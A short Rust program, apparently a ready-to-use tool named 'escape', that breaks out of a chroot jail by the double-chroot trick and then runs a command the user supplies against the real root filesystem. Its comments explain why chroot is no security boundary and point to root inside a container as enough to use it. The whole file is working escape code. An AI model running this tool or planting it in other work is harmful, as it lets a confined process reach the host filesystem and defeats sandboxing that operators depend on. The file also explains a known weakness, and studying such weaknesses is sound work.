//! Climbs out of a chroot: chroot(2) calls itself no security boundary, and this is why.
//!
//! `..` ends at the root, and nowhere else. So be where the root is not above you: move it, with a second chroot, into a
//! folder of your own, and stay outside. It takes a root, which the one in a container is.
//!
//!     escape COMMAND [ARG...]

use std::env;
use std::fs;
use std::io;
use std::os::unix::fs::chroot;
use std::os::unix::process::CommandExt;
use std::process::Command;

fn main() -> io::Result<()> {
    let args: Vec<_> = env::args_os().skip(1).collect();
    let [program, args @ ..] = args.as_slice() else {
        return Err(io::Error::other("usage: escape COMMAND [ARG...]"));
    };
    env::set_current_dir("/tmp")?;
    fs::create_dir_all("hole")?;
    // No chdir: our working directory is now outside of our root, and `..` does not meet it on the way up.
    chroot("hole")?;
    // Where there is nothing above, `..` stays; so too many do no harm.
    for _ in 0..64 {
        env::set_current_dir("..")?;
    }
    chroot(".")?;
    let error = Command::new(program).args(args).exec();
    Err(io::Error::other(format!("execve({program:?}): {error}")))
}
